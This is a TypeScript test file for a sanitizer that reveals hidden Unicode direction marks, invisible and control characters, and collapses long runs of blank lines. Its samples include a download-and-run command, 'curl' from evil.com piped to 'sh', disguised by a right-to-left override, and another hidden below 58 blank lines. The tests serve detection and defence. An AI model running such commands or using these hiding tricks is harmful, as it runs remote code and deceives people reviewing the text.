import fc from "fast-check"
import { expect, test } from "vitest"
import { foldBlankLines, visibleLine, visibleText } from "./visible-text.ts"

// The attack: what is read is not what runs.
test("a direction override cannot turn a command around", () => {
  expect(visibleText("echo safe # \u202emoc.live//:sptth lruc | hs\u202c")).toBe(
    "echo safe # ⟨U+202E⟩moc.live//:sptth lruc | hs⟨U+202C⟩",
  )
})

test.each([
  ...["\u202a", "\u202b", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"],
  ...["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u3164", "\u115f", "\u2800"],
  ...["\u0000", "\u0007", "\b", "\r", "\u001b", "\u007f", "\u0085", "\u009b", "\u2028", "\u2029"],
  ...["\u{e0041}", "\ufe00", "\ufff9"],
])("%j is written out", (character) => {
  const code = character.codePointAt(0)?.toString(16).toUpperCase().padStart(4, "0")
  expect(visibleText(`a${character}b`)).toBe(`a⟨U+${code}⟩b`)
})

test("ordinary text of any script stays as it is, with its tabs and lines", () => {
  for (const text of ["if a; then\n\tb\nfi", "naïve 漢字 Ωμέγα", "می‌خواهم", "क्‍ष", "👩‍💻 ⚠️ 👍🏽", "שלום"])
    expect(visibleText(text)).toBe(text)
})

test("in a title a line feed is written out too", () => {
  expect(visibleLine("a\nb\u202e")).toBe("a⟨U+000A⟩b⟨U+202E⟩")
})

test("whatever the text, no control and no direction mark is left in it", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (text) => {
      expect(visibleText(text)).not.toMatch(/[[\p{Cc}\p{Bidi_Control}]--[\t\n]]/v)
    }),
  )
})

test("many blank lines are counted, so that they push nothing out of sight", () => {
  expect(foldBlankLines(`echo safe\n${"\n".repeat(58)}curl evil | sh`)).toBe(
    "echo safe\n… 58 blank lines\ncurl evil | sh",
  )
  expect(foldBlankLines("a\n \t\n\u00a0\n\nb")).toBe("a\n… 3 blank lines\nb")
  expect(foldBlankLines("a\n\n\nb\n")).toBe("a\n\n\nb\n")
})
